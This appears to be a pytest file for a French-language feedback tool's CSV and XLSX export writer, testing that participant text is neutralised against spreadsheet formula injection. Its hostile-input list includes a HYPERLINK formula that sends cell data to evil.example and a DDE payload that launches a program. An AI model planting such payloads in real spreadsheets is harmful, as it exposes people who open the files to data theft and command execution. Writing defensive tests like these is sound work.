"""The shared export writer: hostile participant text never becomes a formula, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from feedback.exports import Column, ExportTable, download_name, safe_text, to_csv, to_xlsx

pytestmark = pytest.mark.pure

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =cmd|' /C calc'!A0",
    "\uff1d1+1",  # a full-width equals sign, which some spreadsheets normalise
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_triggers_are_neutralised(text):
    assert safe_text(text) == "'" + text


def test_ordinary_text_is_left_as_typed():
    assert safe_text("Très bien, merci = parfait") == "Très bien, merci = parfait"
    assert safe_text("Œuvre collective « réussie »") == "Œuvre collective « réussie »"


def _table():
    return ExportTable(
        title="Taux par formation [2025]: essai/test",
        columns=[Column("title", "Formation"), Column("n", "Réponses"), Column("rate", "Taux"), Column("day", "Date")],
        rows=[
            {"title": HOSTILE[0], "n": 12, "rate": 0.8333, "day": date(2025, 3, 4)},
            {"title": "Droit des étrangers", "n": -1, "rate": None, "day": None},
            {"title": "Contrôle\x07 caractère", "n": 0, "rate": 1.0, "day": date(2025, 12, 31)},
        ],
    )


def test_csv_opens_in_a_french_spreadsheet_without_a_formula():
    content = to_csv(_table())
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Formation", "Réponses", "Taux", "Date"]
    assert rows[1][0].startswith("'=HYPERLINK")
    assert rows[1][1:] == ["12", "0,8333", "2025-03-04"]
    # A number is written as a number, even a negative one: only text is neutralised.
    assert rows[2][1] == "-1"
    assert rows[3][0] == "Contrôle caractère"


def test_xlsx_keeps_types_and_never_writes_a_formula():
    workbook = load_workbook(io.BytesIO(to_xlsx(_table())))
    sheet = workbook.active
    assert sheet.title == "Taux par formation  2025   essa"[:31]
    cells = list(sheet.iter_rows(values_only=True))
    assert cells[0] == ("Formation", "Réponses", "Taux", "Date")
    assert cells[1][0].startswith("'=HYPERLINK")
    assert cells[1][1] == 12 and cells[1][2] == pytest.approx(0.8333)
    assert cells[1][3].date() == date(2025, 3, 4)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"


def test_download_name_is_plain_ascii():
    assert download_name("Taux par axe — Île-de-France 2025", "csv") == "taux-par-axe-ile-de-france-2025.csv"
    assert download_name("«»", "xlsx") == "export.xlsx"
